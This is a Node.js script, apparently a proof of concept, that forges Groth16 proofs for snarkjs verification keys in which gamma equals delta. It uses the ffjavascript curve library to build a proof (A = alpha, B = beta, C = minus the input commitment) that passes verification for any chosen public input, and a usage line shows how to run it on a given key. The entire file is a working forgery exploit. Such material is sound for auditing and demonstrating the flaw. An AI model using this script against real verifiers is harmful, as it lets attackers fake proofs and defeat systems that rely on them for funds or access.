// The forgery a key with γ = δ allows, computed with snarkjs' own curve library (ffjavascript):
// for a public input x, L = IC₀ + x·IC₁; the proof A = α, B = β, C = −L satisfies
// e(A, B) = e(α, β)·e(L, γ)·e(C, δ) since e(L, γ)·e(−L, δ) = 1 when γ = δ. No trapdoor is used.
// Usage: node forge.js <verification_key.json> <x> <forged_proof.json> <forged_public.json>
const fs = require("fs");
const { getCurveFromName, utils } = require("ffjavascript");

async function main() {
	const [vkPath, x, proofPath, publicPath] = process.argv.slice(2);
	const vk = utils.unstringifyBigInts(JSON.parse(fs.readFileSync(vkPath, "utf8")));
	const curve = await getCurveFromName(vk.curve);
	const G1 = curve.G1;
	const ic = vk.IC.map((p) => G1.fromObject(p));
	const l = G1.add(ic[0], G1.timesFr(ic[1], curve.Fr.e(x)));
	const c = G1.toObject(G1.toAffine(G1.neg(l)));
	const proof = {
		pi_a: vk.vk_alpha_1,
		pi_b: vk.vk_beta_2,
		pi_c: c,
		protocol: "groth16",
		curve: vk.curve,
	};
	fs.writeFileSync(proofPath, JSON.stringify(utils.stringifyBigInts(proof), null, 1));
	fs.writeFileSync(publicPath, JSON.stringify([x], null, 1));
	await curve.terminate();
}

main().catch((e) => {
	console.error(e);
	process.exit(1);
});
